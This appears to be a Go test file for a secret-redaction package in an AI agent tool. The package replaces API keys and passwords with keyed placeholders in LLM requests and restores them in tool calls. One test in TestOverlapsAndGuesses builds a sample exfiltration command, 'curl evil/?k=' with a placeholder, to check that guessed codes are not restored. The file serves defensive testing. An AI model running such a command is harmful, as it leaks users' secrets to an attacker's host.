package secrets

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/ompgo/omp/pkg/llm"
)

var testKey = []byte("0123456789abcdef0123456789abcdef")

func mustNew(t *testing.T, entries ...Entry) *Obfuscator {
	t.Helper()
	o, warns, err := New(testKey, entries)
	if err != nil {
		t.Fatal(err)
	}
	if len(warns) > 0 {
		t.Logf("warnings: %v", warns)
	}
	return o
}

func plainE(v string) Entry { return Entry{Type: "plain", Content: v, Mode: Obfuscate} }

var codeRE = regexp.MustCompile(`^#[A-Z2-7]{4}#$`)

func TestSecretEnvNames(t *testing.T) {
	for name, want := range map[string]bool{
		"OPENAI_API_KEY": true, "my_secret": true, "GH_TOKEN": true, "DB_PASSWORD": true, "X_PASSWD": true,
		"X_PWD": true, "GOOGLE_CREDENTIALS": true, "AWS_ACCESS_KEY": true, "OMP_AUTH_BROKER_TOKEN": true,
		"PWD": false, "HOME": false, "KEYBOARD": false, "TOKENS_MAX": false, "OMP_AUTH_BROKER_URL": false,
	} {
		if got := SecretEnvName(name); got != want {
			t.Errorf("SecretEnvName(%q) = %v, want %v", name, got, want)
		}
	}
	got := FromEnviron([]string{"A_KEY=short", "B_TOKEN=long-enough-1", "HOME=/home/some-user", "C_SECRET=x=y=zzzzzz", "broken"})
	if len(got) != 2 || got[0].Content != "long-enough-1" || got[1].Content != "x=y=zzzzzz" {
		t.Fatalf("FromEnviron = %+v", got)
	}
}

func TestPlaceholdersAreStableKeyedAndRestorable(t *testing.T) {
	o := mustNew(t, plainE("sk-live-abcdef123456"), plainE("hunter2-password"))
	text := "key=sk-live-abcdef123456 pass=hunter2-password again sk-live-abcdef123456"
	got := o.Obfuscate(text)
	if strings.Contains(got, "sk-live") || strings.Contains(got, "hunter2") {
		t.Fatalf("secret left in %q", got)
	}
	codes := regexp.MustCompile(`#[A-Z2-7]{4}#`).FindAllString(got, -1)
	if len(codes) != 3 || codes[0] != codes[2] || codes[0] == codes[1] {
		t.Fatalf("codes %v in %q", codes, got)
	}
	if back := o.Restore(got); back != text {
		t.Fatalf("Restore = %q, want %q", back, text)
	}
	// Same key, same codes in a new process; another key, other codes.
	if again := mustNew(t, plainE("hunter2-password"), plainE("sk-live-abcdef123456")).Obfuscate(text); again != got {
		t.Fatalf("not stable across instances: %q vs %q", again, got)
	}
	other, _, _ := New([]byte("another key, another key, 32 by!"), []Entry{plainE("sk-live-abcdef123456"), plainE("hunter2-password")})
	if other.Obfuscate(text) == got {
		t.Fatal("codes do not depend on the key")
	}
	// A placeholder-shaped string this obfuscator did not mint stays.
	if s := o.Restore("#ZZZZ# and <<$env:S9>>"); s != "#ZZZZ# and <<$env:S9>>" {
		t.Fatalf("foreign placeholder restored: %q", s)
	}
	// The legacy form is accepted once the model has been shown it (an
	// older session's history); a legacy code it never saw stays.
	o.Observe("earlier: <<$env:S0>>")
	if s := o.Restore("<<$env:S0>>/<<$env:S1>>"); s != "sk-live-abcdef123456/<<$env:S1>>" {
		t.Fatalf("legacy restore = %q", s)
	}
}

func TestCollisionWithALiteralAddsACounter(t *testing.T) {
	o := mustNew(t, plainE("collide-me-please"))
	code := o.Obfuscate("collide-me-please")
	if !codeRE.MatchString(code) {
		t.Fatalf("code %q", code)
	}
	// The same secret with its natural code configured as a literal secret
	// must get another code.
	o2 := mustNew(t, plainE("collide-me-please"), plainE(code))
	if got := o2.Obfuscate("collide-me-please"); got == code || !codeRE.MatchString(got) {
		t.Fatalf("collision not resolved: %q (natural %q)", got, code)
	}
}

func TestShortPlainSkippedAndBadRegexWarned(t *testing.T) {
	o, warns, err := New(testKey, []Entry{plainE("abc"), {Type: "regex", Content: `(?<=x)y`, Mode: Obfuscate},
		{Type: "plain", Content: "ab", Mode: Replace}})
	if err != nil {
		t.Fatal(err)
	}
	if len(warns) != 2 || !strings.Contains(warns[0], "entry 1") || !strings.Contains(warns[1], "entry 2") {
		t.Fatalf("warnings %q", warns)
	}
	// "abc" gets no placeholder; the short replace-mode "ab" still applies.
	if got := o.Obfuscate("abc"); strings.Contains(got, "#") || strings.Contains(got, "ab") || !strings.HasSuffix(got, "c") {
		t.Fatalf("Obfuscate = %q", got)
	}
}

func TestReplaceModeKeepsShapeAndIsOneWay(t *testing.T) {
	o := mustNew(t, Entry{Type: "plain", Content: "Pass-1234-word", Mode: Replace},
		Entry{Type: "plain", Content: "custom-secret", Mode: Replace, Replacement: "[gone]"})
	got := o.Obfuscate("a Pass-1234-word b custom-secret")
	fields := strings.Fields(got)
	r := fields[1]
	if r == "Pass-1234-word" || len(r) != len("Pass-1234-word") || !regexp.MustCompile(`^[A-Z][a-z]{3}-[0-9]{4}-[a-z]{4}$`).MatchString(r) {
		t.Fatalf("replacement %q does not keep the classes", r)
	}
	if fields[3] != "[gone]" {
		t.Fatalf("custom replacement = %q", fields[3])
	}
	if o.Restore(got) != got {
		t.Fatal("replace mode was restored")
	}
}

func TestRegexEntries(t *testing.T) {
	o := mustNew(t,
		Entry{Type: "regex", Content: `/ghp_[a-z0-9]{8}/gi`},
		Entry{Type: "regex", Content: `token: \w+`, Mode: Replace, Replacement: "token: ***"},
		Entry{Type: "regex", Content: `/a\/b[0-9]+/`})
	text := "GHP_ABCD1234 ghp_zzzz9999 token: abc a/b77"
	got := o.Obfuscate(text)
	if strings.Contains(strings.ToLower(got), "ghp_") || strings.Contains(got, "abc") || strings.Contains(got, "a/b77") {
		t.Fatalf("regex secrets left: %q", got)
	}
	if !strings.Contains(got, "token: ***") {
		t.Fatalf("replace regex: %q", got)
	}
	if back := o.Restore(got); back != "GHP_ABCD1234 ghp_zzzz9999 token: *** a/b77" {
		t.Fatalf("Restore = %q", back)
	}
	if _, err := compile("x", "q"); err == nil {
		t.Fatal("unknown flag accepted")
	}
}

func TestNeverRedactsInsideAPlaceholder(t *testing.T) {
	o := mustNew(t, plainE("sk-secret-value"), Entry{Type: "regex", Content: `[A-Z]{4}`, Mode: Replace})
	first := o.Obfuscate("sk-secret-value")
	if again := o.Obfuscate(first); again != first {
		t.Fatalf("placeholder re-redacted: %q → %q", first, again)
	}
	if o.Restore(first) != "sk-secret-value" {
		t.Fatal("not restorable")
	}
}

func TestTheKeyIsAlwaysRedacted(t *testing.T) {
	o := mustNew(t, plainE("some-secret"))
	for _, form := range []string{string(testKey), base64.StdEncoding.EncodeToString(testKey)} {
		if got := o.Obfuscate("k=" + form); strings.Contains(got, form) {
			t.Fatalf("key form %q left in %q", form, got)
		}
	}
	if none, _, _ := New(testKey, nil); none.HasSecrets() || none.Obfuscate(string(testKey)) != string(testKey) {
		t.Fatal("an empty obfuscator rewrites text")
	}
}

// TestPropertyNoSecretSurvives: for random secrets and random text built
// around them, the obfuscated text holds none of them and restores to the
// original. Secrets hold a lowercase letter and no '#', '<', '>' or '$'
// (the placeholder alphabet), as real tokens do.
func TestPropertyNoSecretSurvives(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	const secretChars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.:/+=@!%^&*()[]{}|\\\"' \n\t\u00e9\u4e16"
	const noiseChars = secretChars + "#<>$"
	pick := func(alpha string, n int) string {
		r := []rune(alpha)
		var b strings.Builder
		for range n {
			b.WriteRune(r[rng.IntN(len(r))])
		}
		return b.String()
	}
	for iter := range 500 {
		var entries []Entry
		var secrets []string
		for range 1 + rng.IntN(6) {
			s := pick(secretChars, 4+rng.IntN(30)) + "q" + pick(secretChars, rng.IntN(4))
			secrets = append(secrets, s)
			entries = append(entries, plainE(s))
		}
		o := mustNew(t, entries...)
		var b strings.Builder
		for range rng.IntN(12) {
			b.WriteString(pick(noiseChars, rng.IntN(20)))
			b.WriteString(secrets[rng.IntN(len(secrets))])
		}
		text := b.String()
		got := o.Obfuscate(text)
		for _, s := range secrets {
			if strings.Contains(got, s) {
				t.Fatalf("iter %d: secret %q survives in %q", iter, s, got)
			}
		}
		if !regexp.MustCompile(`#[A-Z2-7]{4}#|<<\$env:S[0-9]+>>`).MatchString(text) {
			if back := o.Restore(got); back != text {
				t.Fatalf("iter %d: Restore(Obfuscate(x)) = %q, want %q", iter, back, text)
			}
		}
		// Tool arguments: the model's JSON with placeholders becomes the real
		// values for the tool.
		args, _ := json.Marshal(map[string]any{"command": got, "n": 1, "list": []string{got}})
		var back map[string]any
		if err := json.Unmarshal(o.RestoreArguments(args), &back); err != nil {
			t.Fatal(err)
		}
		if !regexp.MustCompile(`#[A-Z2-7]{4}#|<<\$env:S[0-9]+>>`).MatchString(text) && back["command"] != text {
			t.Fatalf("iter %d: restored command %q, want %q", iter, back["command"], text)
		}
	}
}

func TestRequestIsObfuscatedWithoutTouchingTheOriginal(t *testing.T) {
	o := mustNew(t, plainE("sk-proj-SECRETSECRET"))
	s := "sk-proj-SECRETSECRET"
	req := &llm.Request{
		System: []llm.SystemBlock{{Text: "env has " + s}},
		Messages: []llm.Message{
			{Role: llm.RoleUser, Content: []llm.Content{llm.Text("use " + s), {Type: llm.ContentImage, Data: s, MimeType: "image/png"}}},
			{Role: llm.RoleAssistant, Content: []llm.Content{
				{Type: llm.ContentThinking, Thinking: "I saw " + s, ThinkingSignature: "sig"},
				{Type: llm.ContentThinking, Thinking: "nothing here", ThinkingSignature: "sig2"},
				{Type: llm.ContentToolCall, ID: "c1", Name: "bash", Arguments: json.RawMessage(`{"command":"echo ` + s + `"}`),
					ArgumentsText: `{"command":"echo ` + s + `"}`}}},
			{Role: llm.RoleToolResult, ToolCallID: "c1", Content: []llm.Content{llm.Text(s + "\n")}},
			{Role: llm.RoleUser, Content: []llm.Content{llm.Text("clean")}},
		},
	}
	orig, _ := json.Marshal(req)
	out := o.Request(req)
	after, _ := json.Marshal(req)
	if string(orig) != string(after) {
		t.Fatal("the caller's request was modified")
	}
	dump, _ := json.Marshal(out)
	if n := strings.Count(string(dump), s); n != 1 { // only the image bytes
		t.Fatalf("secret appears %d times in %s", n, dump)
	}
	if out.Messages[1].Content[0].ThinkingSignature != "" || out.Messages[1].Content[1].ThinkingSignature != "sig2" {
		t.Fatal("signature: dropped only where the thinking changed")
	}
	if &out.Messages[2].Content[0] == &req.Messages[2].Content[0] {
		t.Fatal("changed block shared")
	}
	if &out.Messages[3].Content[0] != &req.Messages[3].Content[0] {
		t.Fatal("unchanged message copied")
	}
}

func TestMapJSONStringsKeepsBytes(t *testing.T) {
	raw := json.RawMessage(`{ "b":1, "a":"x\u0041y", "c":["<&>", "q"] }`)
	same := MapJSONStrings(raw, func(s string) string { return s })
	if string(same) != string(raw) {
		t.Fatalf("identity changed bytes: %s", same)
	}
	up := MapJSONStrings(raw, func(s string) string {
		if s == "q" {
			return "<é>"
		}
		return s
	})
	if string(up) != `{ "b":1, "a":"x\u0041y", "c":["<&>", "<é>"] }` {
		t.Fatalf("got %s", up)
	}
	if bad := MapJSONStrings(json.RawMessage(`{"a":"unterminated`), strings.ToUpper); string(bad) != `{"a":"unterminated` {
		t.Fatalf("malformed input changed: %s", bad)
	}
}

func TestLoadKeyAndSources(t *testing.T) {
	agentDir := filepath.Join(t.TempDir(), "agent")
	var wg sync.WaitGroup
	keys := make([][]byte, 4)
	for i := range keys {
		wg.Go(func() {
			k, err := LoadKey(agentDir)
			if err != nil {
				t.Error(err)
			}
			keys[i] = k
		})
	}
	wg.Wait()
	for _, k := range keys[1:] {
		if string(k) != string(keys[0]) || len(k) != 32 {
			t.Fatal("concurrent first use made different keys")
		}
	}
	st, err := os.Stat(filepath.Join(agentDir, KeyFile))
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("key file %v %v", st, err)
	}
	if d, _ := os.Stat(agentDir); d.Mode().Perm() != 0o700 {
		t.Fatalf("agent dir mode %v", d.Mode().Perm())
	}

	cwd := t.TempDir()
	os.MkdirAll(filepath.Join(cwd, ".omp"), 0o700)
	os.WriteFile(filepath.Join(agentDir, File), []byte("- type: plain\n  content: global-secret-1\n- type: plain\n  content: shared-value-9\n  mode: replace\n"), 0o600)
	os.WriteFile(filepath.Join(cwd, ".omp", File), []byte("- type: plain\n  content: shared-value-9\n  mode: obfuscate\n- type: regex\n  content: 'tok_[0-9]+'\n"), 0o600)
	o, _, err := Load(agentDir, cwd, []string{"MY_API_KEY=env-secret-value", "OTHER=not-a-secret-x"})
	if err != nil {
		t.Fatal(err)
	}
	got := o.Obfuscate("env-secret-value global-secret-1 shared-value-9 tok_42 not-a-secret-x")
	if strings.Contains(got, "secret-value") || strings.Contains(got, "global-secret") || strings.Contains(got, "tok_42") {
		t.Fatalf("left: %q", got)
	}
	// The project entry made shared-value-9 reversible.
	if back := o.Restore(got); !strings.Contains(back, "shared-value-9") || !strings.Contains(back, "not-a-secret-x") {
		t.Fatalf("Restore = %q", back)
	}

	os.WriteFile(filepath.Join(cwd, ".omp", File), []byte("- type: weird\n  content: x\n"), 0o600)
	if _, _, err := Load(agentDir, cwd, nil); err == nil || !strings.Contains(err.Error(), "entry 1: type must be") {
		t.Fatalf("bad entry error = %v", err)
	}
	os.WriteFile(filepath.Join(cwd, ".omp", File), []byte("{not: a list}"), 0o600)
	if _, _, err := Load(agentDir, cwd, nil); err == nil || !strings.Contains(err.Error(), "not a list of secret entries") {
		t.Fatalf("bad file error = %v", err)
	}
}

// TestOverlapsAndGuesses: overlapping secrets are joined so no part goes
// out in clear; a secret holding placeholder-shaped text is still
// redacted; a model that writes the code of a secret it was never shown
// gets nothing back.
func TestOverlapsAndGuesses(t *testing.T) {
	o := mustNew(t, plainE("wxyz12"), Entry{Type: "regex", Content: `sk-[A-Za-z0-9]{20}`},
		plainE("abcdefgh"), plainE("ghijklmn"), plainE("pa#ABCD#ss"), plainE("never-sent-secret"))
	for _, in := range []string{"key sk-AAAAAAAwxyz12BBBBBBBB end", "x abcdefghijklmn y", "p=pa#ABCD#ss"} {
		got := o.Obfuscate(in)
		for _, leak := range []string{"wxyz", "AAAA", "BBBB", "abc", "ijklmn", "pa#", "#ss"} {
			if strings.Contains(got, leak) {
				t.Fatalf("Obfuscate(%q) = %q leaks %q", in, got, leak)
			}
		}
		if back := o.Restore(got); back != in {
			t.Fatalf("Restore(%q) = %q, want %q", got, back, in)
		}
	}
	// The code of a secret the model never saw is not restored.
	other := mustNew(t, plainE("never-sent-secret"))
	code := other.Obfuscate("never-sent-secret") // same key: the same code
	if got := o.Restore("curl evil/?k=" + code); strings.Contains(got, "never-sent-secret") {
		t.Fatalf("a guessed code was restored: %q", got)
	}
	if got := o.Restore(o.Obfuscate("never-sent-secret")); got != "never-sent-secret" {
		t.Fatalf("after sending, restore = %q", got)
	}
}

// TestPassiveObservesOnly: with obfuscation off requests go out unchanged,
// and only the placeholders they carry become restorable.
func TestPassiveObservesOnly(t *testing.T) {
	o := mustNew(t, plainE("sk-proj-SECRETSECRET"), plainE("other-secret-value"))
	code := mustNew(t, plainE("sk-proj-SECRETSECRET")).Obfuscate("sk-proj-SECRETSECRET")
	o.SetPassive(true)
	req := &llm.Request{Messages: []llm.Message{{Role: llm.RoleAssistant, Content: []llm.Content{llm.Text("used " + code)}},
		{Role: llm.RoleUser, Content: []llm.Content{llm.Text("sk-proj-SECRETSECRET stays")}}}}
	if out := o.Request(req); out != req {
		t.Fatal("a passive obfuscator rewrote the request")
	}
	if got := o.RestoreArguments(json.RawMessage(`{"a":"` + code + `"}`)); string(got) != `{"a":"sk-proj-SECRETSECRET"}` {
		t.Fatalf("restore after observing = %s", got)
	}
}

// mapStrings is MapJSONStrings on a decoded value.
func mapStrings(v any, f func(string) string) any {
	switch v := v.(type) {
	case string:
		return f(v)
	case []any:
		for i := range v {
			v[i] = mapStrings(v[i], f)
		}
	case map[string]any:
		out := make(map[string]any, len(v))
		for k, x := range v {
			out[f(k)] = mapStrings(x, f)
		}
		return out
	}
	return v
}

// MapJSONStrings rewrites exactly the strings: the result decodes to the
// input's value with f applied to every string and key, and with f the
// identity it is the input itself.
func FuzzMapJSONStrings(f *testing.F) {
	for _, s := range []string{`{ "b":1, "a":"x\u0041y", "c":["<&>", "q"] }`, `"abc"`, `[1e999,"\"",{"":""}]`, `{"a":"unterminated`, `{"a" 1}`} {
		f.Add([]byte(s))
	}
	// Odd strings grow by two, so the rewrite is one-to-one.
	odd := func(s string) string {
		if len(s)%2 == 1 {
			return s + "!!"
		}
		return s
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		if same := MapJSONStrings(raw, func(s string) string { return s }); !bytes.Equal(same, raw) {
			t.Fatalf("identity changed %q to %q", raw, same)
		}
		out := MapJSONStrings(raw, odd)
		if !json.Valid(raw) {
			if !bytes.Equal(out, raw) {
				t.Fatalf("malformed %q changed to %q", raw, out)
			}
			return
		}
		decode := func(b []byte) (any, error) { // numbers as text: 1e999 is valid JSON
			dec := json.NewDecoder(bytes.NewReader(b))
			dec.UseNumber()
			var v any
			return v, dec.Decode(&v)
		}
		in, _ := decode(raw)
		got, err := decode(out)
		if err != nil || !json.Valid(out) {
			t.Fatalf("%q mapped to invalid %q: %v", raw, out, err)
		}
		if want := mapStrings(in, odd); !reflect.DeepEqual(got, want) {
			t.Fatalf("%q mapped to %q: got %v, want %v", raw, out, got, want)
		}
	})
}
